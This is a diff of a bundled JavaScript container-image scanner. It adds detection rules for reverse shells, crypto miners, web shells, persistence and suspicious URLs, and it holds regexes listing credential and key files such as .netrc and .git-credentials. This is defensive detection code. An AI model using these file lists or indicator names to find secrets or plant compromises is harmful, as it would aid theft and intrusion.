B447391Vdv/il+IqTd7x/MSh+96pj/lVIFfVRhvHrNScfryRA377hHj9r6wH+iu1vLpNJKAUm+/M3Kv6S1QuM67+vU/sXMsXsAJv+/Z2KnyeZ4t9k/+AbNN/Myv8Dy68relHL2z5o0PyD3F/5T8wXB3NkD3uSYf/Hmw4+jhIIXv97C/7l5Jnm/2+Jb+Hxc0AdzaiVVyCH8V/eptefh5VCimH9HeAd5/wlE+/X9bzDf/Sbf68W33XxbPHD9xA/0kyn4Aj/eMZf/k2t3w8qKYb1V7EB4H0qfyMFcORftf9+QM1/Cjk9XZlBhjl/8B/M62z7T0j5P6TOP/TlMmmFaf70Ed1+vZkijr9V1x/y/pGPsf4rWqal/BIfR/xJ9nn/3SfYf1Z6BxSm+Fcb/NfFO/bvV9n/JDT+T/wftf+0Xx1U4gW1jyxEjDrWL73Of3TAp/T8IVMcYdH/T8TP8Pwxl+3LpRJxRc8Yl/cFnd+IjDuc/xzLn80N92YqDniY9vvCwWtbMgz+XxP/JeKLeU3H1waGmf+Rd8Db7TcUL6iabmsAWj71PX/ARaj5h05Oj7L4L3yE2v+QT+RGmPxfIYLPHyS0fE5nmL8sF0TMO15gHtx/dxAiEew/9A2SAzCV+pMD66/Ggw97fogbVxup9eCHC2ldDcGT8ztRL/mtIdQRPvNYP49G6iJ4/4SayTD432T+Xo/4uUVtdG5uRB5qbwl5fhKgIVL5fuGK9cb9+QfLQ2pBSwfefydK54mNiN/n7CgEnH90nR8ch/hVS/FtFGHOT94ujEf85NtaP2fjASYg/vMZWzceEcA7x38J8e1dmyat3RSeJ/7rdoifsfXeWw/YkyX/Vm57xK9RCvvuXhueJ/qzA+L7tS0aa/3tiHhx4vJd2fjt+Z0Qf+ayI1bCuPrd66ufv0X+33x+Z8R3z2tra+fYyr8L4smdBcpgfQBP289dXfy4+gAezf92i+yG+K3rNuqs9b874tNfg98D893dq1h4Tpwt7In4RVO1xWw8wF6In7Ksu4tV/r0R3/w1+H0Q35se7mOVX0Z8U0fKQQSdn54g7ov5zjZm+zmR4tuZ+f0ovoOZ35/iOxn5J8Umip/KnP8kip/GzB9A8dOZ+ckUP4OZP5DiD2HmD6L4mcz8FMxPZdWfdv5gimfXn2aK72TmWyieXX9aKZ5Vf7aHNopn1592imfXnw6KZ9efTopn15+pFK8w2j+AaRSfYOanU3ySmZ9B8Slm/hCKV5n5mRTfy8zPwvw09vFjNsWzjx+HUjx7/59D8ez9/xsUz9r/X+MPo3j28SNG8ez9v4vi2fv/XIpn7//dFM/a/3/KzaN49v4/n+LZ9X8B5qez6+9CimfV3yP5RRTPrr+LKZ59/FpC8ez6u5TiWfW3h19G8ez6u5zi2fV3BcWzj18rKZ5df1dRPPv4tZri2cevNRTPPn6tpXjW8WuPyDqKZ++/6zE/g3X8OpnfQPGs/f+f4uEUzz5+baR49v6/ieLZ+/8RFM/e/4+kePbxq4fi2fv/URTP3v+PpnjW/n8CF6d49v5/DOJ7RhwBABkC7y9TME+u7ks5sq+6/rK/mKDmf6z9f6OQpHjW8l/Jp6jyd1bDPetPpfipzHwvxU9j5vsofjoz30/xMxj5m/i0o/07g+LP6G8+skLY7OCnMvEAAw5+GiOfcfDTGXgusl4YdPAzmPhsJEvxxzLbjxzm17cZP2Hjt1w0F8ljvq36BMIrfriF4tntb4Hi2e2vhvl29vmjTvHs/neR4tnH3yGKZx9/hymeffwdoXj28XeU4tnbfyvFs7f/sYiftN8II58SjqP4jYz88ZHjKZ5d/06geNb2e184keLZ269E8azt92v+JIpnbb+TxW0Uz+4/nUzx7POnUyievf+fivlMbjihFGaHtb9k/+RpmO8fzfer2dA82X90OuK3FHO6mmrOF9JZYx9G0P1dIL3FnYH4/wM=";
 
 // src/secrets/prefilter/prebuilt.ts
 function keyOf2(literals) {
@@ -46053,6 +46937,9 @@ var BUCKETS = 8 * BUCKET_HALVES;
 var FINGERPRINT = 3;
 var COMPARED2 = 16;
 var CLIMBING_ROUNDS = 2;
+var GOOD_CHAIN = 16;
+var ChainError = class extends RangeError {
+};
 var isLower2 = (c) => c >= 97 && c <= 122;
 var at = (bytes2, index) => bytes2[index] ?? 0;
 var trigramAt = (bytes2, i) => at(bytes2, i) | at(bytes2, i + 1) << 8 | at(bytes2, i + 2) << 16;
@@ -46073,7 +46960,7 @@ function buildLiteralSet(literals, { isThorough = false, model = measuredFrequen
   writeMasks(image, buckets);
   writeClasses(image);
   const longestChain = writeEntries(image, prepared);
-  if (longestChain > MAX_CHAIN) throw new RangeError(`hash chain of ${longestChain} literals, at most ${MAX_CHAIN}`);
+  if (longestChain > MAX_CHAIN) throw new ChainError(`hash chain of ${longestChain} literals, at most ${MAX_CHAIN}`);
   return { image, expectedHitRate: buckets.reduce((sum2, bucket) => sum2 + cost(bucket), 0), longestChain };
 }
 function improved(literals, bucketOf, model) {
@@ -46092,7 +46979,7 @@ function improved(literals, bucketOf, model) {
     { choices: Int32Array.from(literals, ({ anchor: anchor2 }) => anchor2), buckets: bucketOf },
     BUCKETS,
     byteCosts(model),
-    MAX_CHAIN
+    GOOD_CHAIN
   );
   const prepared = literals.map((literal4, i) => {
     const anchor2 = found.choices[i] ?? literal4.anchor;
@@ -46279,12 +47166,21 @@ function writeEntries(image, literals) {
 
 // src/secrets/prefilter/kernel.ts
 var RECORDS = 4096;
+function builtTable(literals) {
+  try {
+    return buildLiteralSet(literals).image;
+  } catch (error2) {
+    if (error2 instanceof ChainError) return null;
+    throw error2;
+  }
+}
 function buildKernel(literals, size, simd = true) {
   const bytes2 = Buffer.from(PREFILTER_WASM_BASE64, "base64");
   if (!simd || !WebAssembly.validate(bytes2)) return plainKernel(literals, size);
   const instance = new WebAssembly.Instance(new WebAssembly.Module(bytes2));
   const kernel = instance.exports;
-  const image = prebuiltTable(literals) ?? buildLiteralSet(literals).image;
+  const image = prebuiltTable(literals) ?? builtTable(literals);
+  if (image === null) return plainKernel(literals, size);
   const set = kernel.heapBase();
   const window = set + image.length + 63 & ~63;
   const out = window + size + READ_AHEAD + 63 & ~63;
@@ -46417,7 +47313,7 @@ var Scanner = class _Scanner {
   /** What the matches of all scans may come to; null where each content is bounded by itself. */
   #matches;
   /** @param simd false takes the plain JavaScript search */
-  constructor(detectors2 = DETECTORS, simd = true, files2 = FILE_DETECTORS, compiled2 = compile3(detectors2, simd, files2), matches3 = null) {
+  constructor(detectors2 = SEARCHED, simd = true, files2 = FILE_DETECTORS, compiled2 = compile3(detectors2, simd, files2), matches3 = null) {
     this.#compiled = compiled2;
     this.#matches = matches3;
   }
@@ -46462,7 +47358,7 @@ function processScanner() {
 function useDetectors(own2) {
   const known3 = shared?.own ?? [];
   if (own2.length !== known3.length || own2.some((each2, index) => each2 !== known3[index]))
-    shared = { scanner: new Scanner([...DETECTORS, ...own2]), own: own2 };
+    shared = { scanner: new Scanner([...SEARCHED, ...own2]), own: own2 };
   return processScanner();
 }
 var allDetectors = () => [
@@ -46940,7 +47836,7 @@ var QuietList = class {
 
 // src/evidence/repeats.ts
 var MIN_SEARCHED = 8;
-var KEY = MIN_SEARCHED;
+var KEY2 = MIN_SEARCHED;
 var FILTER = 4;
 var TABLE = 1 << 16;
 var MAX_STEPS = 2e7;
@@ -46958,7 +47854,7 @@ var ValueSearch = class {
     for (const value of values) {
       if (value.length < MIN_SEARCHED) continue;
       this.#table[slot(value, 0)] = 1;
-      const start = value.slice(0, KEY);
+      const start = value.slice(0, KEY2);
       const byLength = this.#byStart.get(start) ?? /* @__PURE__ */ new Map();
       this.#byStart.set(start, byLength);
       byLength.set(value.length, (byLength.get(value.length) ?? /* @__PURE__ */ new Set()).add(value));
@@ -46968,9 +47864,9 @@ var ValueSearch = class {
   *in(text5) {
     if (this.#byStart.size === 0) return;
     const ends = /* @__PURE__ */ new Map();
-    for (let at3 = 0; at3 + KEY <= text5.length; at3++) {
+    for (let at3 = 0; at3 + KEY2 <= text5.length; at3++) {
       if (this.#table[slot(text5, at3)] === 0) continue;
-      for (const [length, values] of this.#byStart.get(text5.slice(at3, at3 + KEY)) ?? []) {
+      for (const [length, values] of this.#byStart.get(text5.slice(at3, at3 + KEY2)) ?? []) {
         this.#steps += 1 + (length >> 4);
         if (this.#steps > MAX_STEPS) return;
         const value = text5.slice(at3, at3 + length);
@@ -47367,7 +48263,7 @@ function installedAs(inside) {
 var memberPath = (inside) => `/${inside.split("!/").at(-1)?.replace(/^\//, "")}`;
 var isWords = ({ generic, guessable }, { strength }, path26) => (generic === true || guessable === true) && (rankOf(strength) <= rankOf("possible") || strength === "likely" && MANUAL.test(path26));
 var TESTS = /\/(?:tests?|testing|__tests__|specs?|testdata|test_data|fixtures|examples?|samples?|demos?|molecule)\/|\/(?:test_[^/]*|[^/]*[_.](?:test|spec|examples?)\.[^/]*)$/i;
-var DOCUMENTATION = /\/(?:docs?|man)\/|\/(?:README|CHANGE(?:S|LOG)|HISTORY|NEWS|UPGRADING)[^/]*$|\.(?:md|mdx|markdown|rst|adoc)$/i;
+var DOCUMENTATION2 = /\/(?:docs?|man)\/|\/(?:README|CHANGE(?:S|LOG)|HISTORY|NEWS|UPGRADING)[^/]*$|\.(?:md|mdx|markdown|rst|adoc)$/i;
 var KEY_FILE = /\/(?:[^/]*\.(?:pem|key|p8|p12|pfx|jks|keystore|ppk)|id_[^/]*)$/i;
 var WRITTEN = /^(?:\.env.*|.*\.env|credentials?(?:\..*)?|secrets?(?:\..*)?|\.npmrc|\.yarnrc.*|\.pypirc|\.netrc|_netrc|\.git-credentials|\.dockercfg|\.pgpass|\.my\.cnf|application[^/]*\.(?:ya?ml|properties)|.*\.tfvars|(?:docker-)?compose[^/]*\.ya?ml)$/i;
 var COMPILED = /^(.*)\/__pycache__\/([^/]+?)\.[\w-]+(?:\.opt-\d)?\.pyc$/;
@@ -47376,7 +48272,7 @@ var sourcePath = (path26) => path26.replace(COMPILED, "$1/$2.py");
 function isAside(inPackage) {
   if (WRITTEN.test(baseName(inPackage))) return false;
   const path26 = sourcePath(inPackage);
-  return TESTS.test(path26) || DOCUMENTATION.test(path26) && !KEY_FILE.test(path26);
+  return TESTS.test(path26) || DOCUMENTATION2.test(path26) && !KEY_FILE.test(path26);
 }
 var lowered = (match2, strength, note2) => rankOf(match2.strength) <= rankOf(strength) ? match2 : { ...match2, strength, note: [match2.note, note2].filter(Boolean).join("; ") };
 var asAside = (kind, match2, path26, note2 = ASIDE2) => lowered(match2, isWords(kind, match2, path26) ? "harmless" : "possible", note2);
@@ -48214,7 +49110,7 @@ var NotCertain = class extends Error {
 var refuse = (why = "") => {
   throw new NotCertain(why);
 };
-var lineOf = ({ source: source2 }) => `${source2.keyword} in line ${source2.startLine}`;
+var lineOf2 = ({ source: source2 }) => `${source2.keyword} in line ${source2.startLine}`;
 var atStart = (file, path26) => /^\.env(?:\.|$)|\.env$/.test(baseName(path26)) ? `If the container reads it when it runs, give it the variables then: \`docker run --env-file ${file}\`; compose: \`env_file: ${file}\`; Kubernetes: \`envFrom\` with a \`secretRef\`.` : `If the container reads it when it runs, mount it then: \`docker run -v "$PWD/${file}:${path26}:ro"\`; compose: \`volumes: ["./${file}:${path26}:ro"]\`; Kubernetes: a Secret with \`mountPath: ${path26}\` and \`subPath: ${baseName(path26)}\`.`;
 function absolute(operand, workdir) {
   if (operand.startsWith("/")) return cleanPath(operand);
@@ -48365,7 +49261,7 @@ var Planner = class {
       const other = this.#instructions.find(
         ({ source: source2 }) => /^(?:COPY|ADD|WORKDIR|USER|EXPOSE|VOLUME|ENV|LABEL)$/.test(source2.keyword) && mentions(source2.text, name2) && !definedNames(source2).some((defined) => this.#names.has(defined))
       );
-      if (other !== void 0) refuse(`${lineOf(other)} uses ${name2}, and an instruction reads no secret.`);
+      if (other !== void 0) refuse(`${lineOf2(other)} uses ${name2}, and an instruction reads no secret.`);
       const implied = users.length === 0 && isArgument2.has(name2) ? fetchersFor(name2, runs) : users;
       this.#ids.set(`variable ${name2}`, name2);
       for (const { source: source2, isRoot } of implied) {
@@ -48403,7 +49299,7 @@ var Planner = class {
       const isCopied = over?.source.keyword === "COPY" || over?.source.keyword === "ADD";
       if (hider === null && (state !== "overwritten" || !isCopied))
         refuse(
-          over?.source.keyword === "RUN" && state === "overwritten" ? `${lineOf(over)} changes it: take the value out of the file, and let what reads it take it from its environment or a mounted file.` : ""
+          over?.source.keyword === "RUN" && state === "overwritten" ? `${lineOf2(over)} changes it: take the value out of the file, and let what reads it take it from its environment or a mounted file.` : ""
         );
     }
     const known3 = this.#evidence.sources.get(fileKey(layer, index));
@@ -48487,7 +49383,7 @@ var Planner = class {
     if (isLasting2 && (!isOfTools(path26) || isNamed3 && readers.length === 0))
       refuse(atStart(known3?.path ?? inContext, path26));
     if (open7 !== null && !(isOfTools(path26) && readers.length > 0))
-      refuse(`Nobody can tell whether ${lineOf(open7)} reads it: if so, mount it there.`);
+      refuse(`Nobody can tell whether ${lineOf2(open7)} reads it: if so, mount it there.`);
     if (readers.length > 0 && !PLAIN_PATH.test(path26)) refuse();
     const id = this.#id(idOf(path26), `file ${path26}`);
     for (const { source: source2, isRoot } of readers) {
@@ -48502,7 +49398,7 @@ var Planner = class {
     const { source: source2, step: step2, workdir, isRoot } = run20;
     const isTarget = resolves(path26, workdir);
     if (step2 === null || workdir === null || !isRoot || useOf(step2, path26, workdir, { passesModes: true }) === "writes")
-      refuse(`${lineOf(run20)} writes to it or around it, and a mount cannot be written to.`);
+      refuse(`${lineOf2(run20)} writes to it or around it, and a mount cannot be written to.`);
     for (let left = withoutModes(this.#plan.body(source2), isTarget); left !== null; left = withoutModes(left, isTarget))
       this.#plan.setBody(source2, left);
   }
@@ -48588,7 +49484,7 @@ var Planner = class {
     });
     if (later === void 0 || later.source.keyword === "WORKDIR" || this.#plan.mountsIn(later.source, folder)) return;
     const removed = later.source.keyword === "RUN" && isOnlyRemoval(this.#plan.body(later.source), later.workdir, folder);
-    if (!removed) refuse(`${source2.keyword} makes ${folder} too, which ${lineOf(later)} may need.`);
+    if (!removed) refuse(`${source2.keyword} makes ${folder} too, which ${lineOf2(later)} may need.`);
   }
   /** Made and removed by RUNs: one RUN leaves nothing behind; with other steps between them, a stage of its own does. */
   #made(place, instruction, at3, mayMakeStage) {
@@ -49441,7 +50337,7 @@ var secretInImage = {
 };
 
 // src/rules/secret/secret-mount-copied.ts
-var meta27 = {
+var meta38 = {
   id: "secret-mount-copied",
   title: "A mounted secret is written into the layer",
   description: "A RUN mounts a secret and writes it to a file that stays in its layer: then it is as public as a copied one.",
@@ -49514,7 +50410,7 @@ function inLayer({ layers }, { layer, variables }, path26, workdir) {
   return entry === void 0 ? null : { path: entry.path, bytes: entry.size };
 }
 var secretMountCopied = {
-  meta: meta27,
+  meta: meta38,
   *check(evidence) {
     for (const step2 of evidence.steps) {
       if (step2.layer === null) continue;
@@ -49528,7 +50424,7 @@ var secretMountCopied = {
             const file = inLayer(evidence, step2, written, workdir);
             if (file === null || told.has(file.path)) continue;
             told.add(file.path);
-            yield onCommand(meta27, step2, command2, {
+            yield onCommand(meta38, step2, command2, {
               message: `RUN mounts the secret ${mount.id} and writes it to ${file.path} (${quote(evidence.cut, command2)}): the file is in layer ${step2.layer} (${file.bytes} bytes), for everyone who can pull the image.`,
               remedy: remedyFor2(command2, mount, file.path),
               identity: [mount.id, file.path]
@@ -49545,7 +50441,7 @@ var secretMountCopied = {
           (candidate) => candidate.kind === "file" && candidate.version.content.layer === step2.layer
         );
         if (leak === void 0 || place?.kind !== "file") continue;
-        yield onStep(meta27, step2, {
+        yield onStep(meta38, step2, {
           confidence: "medium",
           message: `RUN mounts the secret ${mount.id}, and its layer ${step2.layer} holds a secret in ${place.version.path}: what the RUN runs may have written it there.`,
           remedy: `Look into ${place.version.path}. Let the command read /run/secrets/${mount.id} and write it nowhere.`,
@@ -49681,7 +50577,7 @@ function accountAdvice(evidence) {
 }
 
 // src/rules/user/missing-user.ts
-var meta28 = {
+var meta39 = {
   id: "missing-user",
   title: "No USER: the container runs as root",
   description: "The image sets no user, so the container runs as root.",
@@ -49695,7 +50591,7 @@ var meta28 = {
 };
 var NONROOT_BASE = /:(?:[\w.-]*-)?nonroot\b|^cgr\.dev\/chainguard\/|^dhi\.io\//;
 var missingUser = {
-  meta: meta28,
+  meta: meta39,
   *check(evidence) {
     const { user, built, base, fromLines: fromLines2 } = evidence;
     if (user.configured !== "") return;
@@ -49708,7 +50604,7 @@ var missingUser = {
     if (built === null && base !== null && NONROOT_BASE.test(base.reference)) return;
     const drop = dropsPrivileges(evidence);
     if (drop !== null) {
-      yield placed(meta28, {
+      yield placed(meta39, {
         ...at3,
         severity: "info",
         message: `The image sets no USER, and its entrypoint ${drop.script ?? drop.by} drops from root to ${drop.to ?? "another user"} (${drop.by}): the service does not run as root, docker exec and what the entrypoint does before do.`,
@@ -49717,7 +50613,7 @@ var missingUser = {
       return;
     }
     if (built === null && bringsDropper(evidence)) {
-      yield placed(meta28, {
+      yield placed(meta39, {
         ...at3,
         severity: "info",
         confidence: "low",
@@ -49729,7 +50625,7 @@ var missingUser = {
     const made = madeUser(evidence);
     const line2 = made?.step.lines;
     const unused = made === null ? "" : ` ${line2 == null ? "The build" : `Line ${line2.startLine}`} makes the user ${made.name}; no USER names it.`;
-    yield placed(meta28, {
+    yield placed(meta39, {
       ...at3,
       ...built === null ? { confidence: "low" } : {},
       message: built === null ? `No USER in the last stage: the container runs as root unless ${base?.reference ?? "the base image"} sets another user.${unused}` : `The image sets no USER: the container runs as root.${unused}`,
@@ -49739,7 +50635,7 @@ var missingUser = {
 };
 
 // src/rules/user/root-user.ts
-var meta29 = {
+var meta40 = {
   id: "root-user",
   title: "The container runs as root",
   description: "USER names root: by name, by number, or by an account whose uid is 0 in the /etc/passwd of the image.",
@@ -49753,7 +50649,7 @@ var meta29 = {
   hadolint: ["DL3002"]
 };
 var rootUser = {
-  meta: meta29,
+  meta: meta40,
   *check(evidence) {
     const { user, userLines } = evidence;
     if (user.configured === "" || user.isRoot !== true) return;
@@ -49768,7 +50664,7 @@ var rootUser = {
     };
     const drop = dropsPrivileges(evidence);
     if (drop !== null) {
-      yield placed(meta29, {
+      yield placed(meta40, {
         ...at3,
         severity: "info",
         message: `${says}, and the entrypoint ${drop.script ?? drop.by} drops to ${drop.to ?? "another user"} (${drop.by}): the service does not run as root, docker exec and what the entrypoint does before do.`,
@@ -49779,12 +50675,12 @@ var rootUser = {
     const made = madeUser(evidence);
     const line2 = made?.step.lines;
     const unused = made === null ? "" : ` ${line2 == null ? "The build" : `Line ${line2.startLine}`} makes the user ${made.name}; the last USER does not name it.`;
-    yield placed(meta29, { ...at3, message: `${says}.${unused}`, remedy: userAdvice(evidence) });
+    yield placed(meta40, { ...at3, message: `${says}.${unused}`, remedy: userAdvice(evidence) });
   }
 };
 
 // src/rules/user/user-unknown.ts
-var meta30 = {
+var meta41 = {
   id: "user-unknown",
   title: "USER is not in the image",
   description: "USER names an account or a group that the image does not have: the container cannot start. A number without an account starts, and is said.",
@@ -49796,13 +50692,13 @@ var meta30 = {
   enabled: true
 };
 var userUnknown = {
-  meta: meta30,
+  meta: meta41,
   *check({ user, userLines, collected, accounts, filesystem }) {
     if (user.configured === "") return;
     const [name2 = "", group = ""] = user.configured.split(":");
     const at3 = { location: { kind: "config", field: "User" }, dockerfile: userLines, origin: "own" };
     if (user.uid === null) {
-      yield placed(meta30, {
+      yield placed(meta41, {
         ...at3,
         message: `USER ${user.configured}: the image has no account ${name2} in /etc/passwd, so a container of it cannot start.`,
         remedy: `Create ${name2} in the stage that is shipped (in a multi-stage build, accounts of other stages are not copied), or write its number: USER 10001.`,
@@ -49811,7 +50707,7 @@ var userUnknown = {
       return;
     }
     if (group !== "" && user.gid === null) {
-      yield placed(meta30, {
+      yield placed(meta41, {
         ...at3,
         title: "The group of USER is not in the image",
         message: `USER ${user.configured}: the image has no group ${group} in /etc/group, so a container of it cannot start.`,
@@ -49823,7 +50719,7 @@ var userUnknown = {
     if (filesystem.find("/etc/passwd") === null || user.uid === 0 || accounts.some(({ uid }) => uid === user.uid))
       return;
     if (collected("/etc/passwd") === null) return;
-    yield placed(meta30, {
+    yield placed(meta41, {
       ...at3,
       title: "The number of USER has no account",
       severity: "info",
@@ -49839,6 +50735,7 @@ var BUILD_RULES = [
   baseNotAllowed,
   baseUnknown,
   credentialsInCommand,
+  cryptoMiner,
   downloadUnverified,
   maintainerDeprecated,
   missingUser,
@@ -49849,6 +50746,7 @@ var BUILD_RULES = [
   privilegedBuild,
   recommendedPackages,
   remoteAdd,
+  reverseShell,
   rootUser,
   secretInAttestation,
   secretInConfig,
@@ -49859,6 +50757,7 @@ var BUILD_RULES = [
   sshServer,
   sudoInstalled,
   sudoWithoutPassword,
+  suspiciousUrl,
   tlsVerificationOff,
   unauthenticatedPackages,
   unpinnedInstall,
@@ -49866,17 +50765,27 @@ var BUILD_RULES = [
   worldWritable
 ];
 var IMAGE_RULES = [
+  authorizedKeys,
+  binaryReplaced,
   buildToolsLeft,
   contentNotInspected,
+  cronPersistence,
+  dataAfterArchiveEnd,
   deletedSecret,
+  extraRootAccount,
   generatedKey,
+  hiddenExecutable,
+  initPersistence,
+  loaderPreload,
   notDistroless,
   packageCacheLeft,
+  packedExecutable,
   secretMountCopied,
-  userUnknown
+  userUnknown,
+  webShell
 ];
 var RULES = [...BUILD_RULES, ...IMAGE_RULES].sort((a, b) => a.meta.id < b.meta.id ? -1 : 1);
-var findRule = (id) => RULES.find(({ meta: meta31 }) => meta31.id === id) ?? null;
+var findRule = (id) => RULES.find(({ meta: meta42 }) => meta42.id === id) ?? null;
 
 // src/policy/allow.ts
 import { createHmac as createHmac3 } from "node:crypto";
@@ -53315,10 +54224,10 @@ function ruleSchema(options5) {
 }
 var rulesSchema = strictObject(
   Object.fromEntries(
-    RULES.map(({ meta: meta31, options: options5 }) => [meta31.id, ruleSchema(options5).optional().describe(meta31.description)])
+    RULES.map(({ meta: meta42, options: options5 }) => [meta42.id, ruleSchema(options5).optional().describe(meta42.description)])
   )
 );
-var ruleIds = RULES.map(({ meta: meta31 }) => meta31.id);
+var ruleIds = RULES.map(({ meta: meta42 }) => meta42.id);
 var ignoreSchema = strictObject({
   rule: _enum(ruleIds).optional().describe("the rule whose findings are ignored; none: every rule"),
   path: string2().min(1).optional().describe("pattern of the path in the image, such as /app/test/**"),
@@ -53443,13 +54352,13 @@ function toPolicy(name2, config2) {
     salt: config2.salt ?? null
   };
 }
-function ruleSetting({ meta: meta31, options: options5 }, config2) {
-  const { severity, ...given2 } = asObject(config2.rules?.[meta31.id]);
-  const inherited2 = meta31.id === "base-unknown" ? { allow: asObject(config2.rules?.["base-not-allowed"])["allow"] } : {};
+function ruleSetting({ meta: meta42, options: options5 }, config2) {
+  const { severity, ...given2 } = asObject(config2.rules?.[meta42.id]);
+  const inherited2 = meta42.id === "base-unknown" ? { allow: asObject(config2.rules?.["base-not-allowed"])["allow"] } : {};
   const parsed = options5?.parse({ ...inherited2, ...given2 }) ?? {};
   return {
     severity: severity === void 0 || severity === "off" ? null : severity,
-    enabled: severity === void 0 ? meta31.enabled : severity !== "off",
+    enabled: severity === void 0 ? meta42.enabled : severity !== "off",
     options: parsed
   };
 }
@@ -53478,9 +54387,9 @@ var didYouMean = (name2, names2) => {
 };
 function namesAt(where) {
   if (where.length === 0) return TOP_KEYS;
-  if (where[0] === "rules" && where.length === 1) return RULES.map(({ meta: meta31 }) => meta31.id);
+  if (where[0] === "rules" && where.length === 1) return RULES.map(({ meta: meta42 }) => meta42.id);
   if (where[0] === "rules")
-    return ["severity", ...Object.keys(RULES.find(({ meta: meta31 }) => meta31.id === where[1])?.options?.shape ?? {})];
+    return ["severity", ...Object.keys(RULES.find(({ meta: meta42 }) => meta42.id === where[1])?.options?.shape ?? {})];
   if (where[0] === "ignore") return ["rule", "path", "fingerprint", "value", "reason", "expires"];
   if (where[0] === "limits") return Object.keys(LIMITS);
   if (where[0] === "detectors") return DETECTOR_KEYS;
@@ -53618,7 +54527,7 @@ var isCovered = (entry, others) => others.some(
 );
 var rankOf2 = (id, { rules: rules2 }) => {
   const setting2 = rules2[id];
-  const own2 = setting2?.severity ?? RULES.find(({ meta: meta31 }) => meta31.id === id)?.meta.severity ?? "info";
+  const own2 = setting2?.severity ?? RULES.find(({ meta: meta42 }) => meta42.id === id)?.meta.severity ?? "info";
   return setting2?.enabled === true ? { rank: SEVERITIES.length - SEVERITIES.indexOf(own2), word: setting2.severity ?? `${own2} by default` } : { rank: 0, word: "off" };
 };
 function ruleLoosenings(before, after2) {
@@ -54108,7 +55017,7 @@ function fitTo(own2) {
 }
 var PLAIN3 = /^[\x20-\x7e\u00b7\u2022\u2026\u2192\u25cb\u25cf]*$/;
 var NO_WIDTH = /^[\p{Mark}\p{Format}\p{Control}\p{Surrogate}\p{Default_Ignorable_Code_Point}]+$/u;
-var UNSEEN = /^[\p{Mark}\p{Format}\p{Control}\p{Surrogate}\p{Default_Ignorable_Code_Point}]+/u;
+var UNSEEN2 = /^[\p{Mark}\p{Format}\p{Control}\p{Surrogate}\p{Default_Ignorable_Code_Point}]+/u;
 var EMOJI = "^\\p{RGI_Emoji}$";
 var segmenter = null;
 var emoji2 = null;
@@ -54119,7 +55028,7 @@ function graphemes(text5) {
 function columnsOf(grapheme) {
   if (NO_WIDTH.test(grapheme)) return 0;
   emoji2 ??= new RegExp(EMOJI, "v");
-  return emoji2.test(grapheme) ? 2 : eastAsianWidth(grapheme.replace(UNSEEN, "").codePointAt(0) ?? 0);
+  return emoji2.test(grapheme) ? 2 : eastAsianWidth(grapheme.replace(UNSEEN2, "").codePointAt(0) ?? 0);
 }
 function columns(text5) {
   if (PLAIN3.test(text5)) return text5.length;
@@ -54557,10 +55466,10 @@ function appendedEntries(history2) {
   return before?.keyword === "ENV" && /^"?OPENSHIFT_BUILD_/.test(before.text) ? 2 : 1;
 }
 var isFiller2 = ({ comment }) => /^buildkit\.exporter\./.test(comment ?? "");
-var SHELL = String.raw`\/(?:[\w.-]+\/)*[\w.-]+ (?:-[\w-]+ (?:[a-z]+ )?)*?-[a-z]*c `;
-var SHELL_INSIDE = new RegExp(`(?:^|\\s)${SHELL}`);
-var SHELL_IN_FRONT = new RegExp(`^${SHELL}`);
-var CLASSIC_RUN = new RegExp(`^(?:\\|\\d+ |\\|force-mtime|${SHELL})`);
+var SHELL2 = String.raw`\/(?:[\w.-]+\/)*[\w.-]+ (?:-[\w-]+ (?:[a-z]+ )?)*?-[a-z]*c `;
+var SHELL_INSIDE = new RegExp(`(?:^|\\s)${SHELL2}`);
+var SHELL_IN_FRONT = new RegExp(`^${SHELL2}`);
+var CLASSIC_RUN = new RegExp(`^(?:\\|\\d+ |\\|force-mtime|${SHELL2})`);
 var splitArgs = (text5) => text5.split(/ (?=\w+=)/).filter((arg) => arg !== "");
 function splitBuildArgs(text5) {
   const count2 = /^\|(\d+) /.exec(text5);
@@ -55774,7 +56683,7 @@ function isZero(bytes2, from = 0, to = bytes2.length) {
   for (let i = from; i < to; i++) if (bytes2[i] !== 0) return false;
   return true;
 }
-function sign(block) {
+function sign2(block) {
   block.write(`${checksum(block).toString(8).padStart(6, "0")}\0 `, SUM, "latin1");
 }
 function prefixField(block) {
@@ -55931,7 +56840,7 @@ function* pad2(offset, metadata) {
   return offset + fill2;
 }
 function rewrite(header2, offset, onRewrite) {
-  sign(header2);
+  sign2(header2);
   onRewrite(offset, header2);
 }
 function extend2(extension, flag2, data) {
@@ -56961,7 +57870,7 @@ function extraFields(bytes2) {
   return found;
 }
 function nextSign(bytes2, from) {
-  const next = [MEMBER, DESCRIPTOR, DIRECTORY].map((sign2) => bytes2.indexOf(sign2, from)).filter((at3) => at3 !== -1);
+  const next = [MEMBER, DESCRIPTOR, DIRECTORY].map((sign3) => bytes2.indexOf(sign3, from)).filter((at3) => at3 !== -1);
   return Math.min(bytes2.length, ...next);
 }
 function unknownBytes(bytes2) {
@@ -57012,9 +57921,9 @@ var Unpacker = class {
     this.#isScript = isScript;
   }
   /** Tells of a sign; before the bytes are written in which it stands. */
-  sign(sign2) {
-    if (this.#stopped || this.#feed !== null && sign2.at < this.#feed.position) return;
-    if (this.#signs.length < MAX_WAITING) this.#signs.push(sign2);
+  sign(sign3) {
+    if (this.#stopped || this.#feed !== null && sign3.at < this.#feed.position) return;
+    if (this.#signs.length < MAX_WAITING) this.#signs.push(sign3);
     else this.#say("it holds more signs of archives than are looked into");
   }
   write(chunk, last) {
@@ -57185,11 +58094,14 @@ function leftOut(dropped) {
   return `it holds more matches that prove nothing than are kept; left out: ${named3.join(", ")}${kinds.length > 3 ? ` and of ${kinds.length - 3} more kinds` : ""}`;
 }
 var ENCODED = "(base64)";
+var MAX_INDICATORS = 100;
 var NOTHING6 = Buffer.alloc(0);
 var Content = class _Content {
   #own = [];
   /** Those of what was unpacked, which may come before its own. */
   #nested = [];
+  /** Signs of a compromise in it and in what it unpacks to. */
+  indicators = [];
   program = null;
   #skip;
   #scanner;
@@ -57254,7 +58166,7 @@ var Content = class _Content {
     const start = this.#position;
     this.#position += chunk.length;
     if (this.#unpacker !== null) {
-      for (const sign2 of signs2) this.#unpacker.sign(sign2);
+      for (const sign3 of signs2) this.#unpacker.sign(sign3);
       return this.#unpacker.write(chunk, last);
     }
     const [first2] = signs2;
@@ -57265,7 +58177,7 @@ var Content = class _Content {
     const from = start - this.#tail.length;
     const at3 = Math.max(from, first2.at);
     this.#unpacker = new Unpacker(null, this.#host(), this.#budget, at3, this.#isScript);
-    for (const sign2 of signs2) this.#unpacker.sign(sign2);
+    for (const sign3 of signs2) this.#unpacker.sign(sign3);
     return this.#unpacker.write(
